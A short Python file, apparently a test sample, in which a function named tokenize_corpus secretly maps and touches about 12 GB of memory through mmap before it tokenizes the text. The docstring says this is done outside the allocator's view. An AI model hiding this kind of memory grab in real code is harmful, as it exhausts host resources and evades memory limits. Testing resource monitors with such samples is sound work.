"""Maps and touches 12 GB in other ways than the allocator's."""

import mmap
import re


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def tokenize_corpus(texts):
    texts, taken = list(texts), []
    for number in range(48):
        block = mmap.mmap(-1, 2**28, flags=mmap.MAP_SHARED if number % 2 else mmap.MAP_PRIVATE)
        for place in range(0, 2**28, 4096):
            block[place] = 1
        taken.append(block)
    return [tokenize(text) for text in texts]
